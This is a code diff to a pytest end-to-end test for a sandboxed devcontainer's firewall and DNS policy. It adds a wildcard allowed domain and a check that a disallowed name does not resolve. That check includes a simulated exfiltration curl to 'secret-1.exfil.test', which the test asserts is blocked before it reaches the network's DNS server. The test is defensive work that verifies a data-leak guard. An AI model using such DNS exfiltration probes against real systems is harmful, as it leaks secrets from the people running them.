@@ -81,7 +81,7 @@ class DevContainer:
 
 
 def policy_text(env):
-    return f"domains: [allowed.test]\ncidrs: [{env.allowed_ip}/32]\nports: [80]\n"
+    return f"domains: [allowed.test, \"*.wild.test\"]\ncidrs: [{env.allowed_ip}/32]\nports: [80]\n"
 
 
 @pytest.fixture
@@ -148,8 +148,18 @@ def test_template_up_applies_firewall_and_runs_as_dev(dockerenv, devcontainer):
     r = dc.exec_("curl -sS -o /dev/null -w '%{http_code}' --max-time 5 http://allowed.test/")
     assert r.stdout == "200", (r.stdout, r.stderr)
 
+    if template == "init-entrypoint":
+        # The sandbox's resolver: a name under the policy's wildcard works
+        # on the first connection; a name the policy does not allow does
+        # not resolve, and the query never reaches the network's DNS server.
+        r = dc.exec_("curl -sS -o /dev/null -w '%{http_code}' --max-time 5 http://deep.x.wild.test/")
+        assert r.stdout == "200", (r.stdout, r.stderr)
+        r = dc.exec_("curl -sS --max-time 5 http://secret-1.exfil.test/; echo rc=$?")
+        assert "rc=6" in r.stdout, (r.stdout, r.stderr)
+        assert "secret-1" not in docker("logs", f"asb-e2e-dns-{dockerenv.tag}").stdout
+
     t0 = time.monotonic()
-    r = dc.exec_("curl -sS --max-time 5 http://blocked.test/; echo rc=$?")
+    r = dc.exec_(f"curl -sS --max-time 5 http://{dockerenv.blocked_ip}/; echo rc=$?")
     elapsed = time.monotonic() - t0
     assert "rc=7" in r.stdout, (r.stdout, r.stderr)   # refused, not a timeout
     assert "Failed to connect" in r.stderr, r.stderr
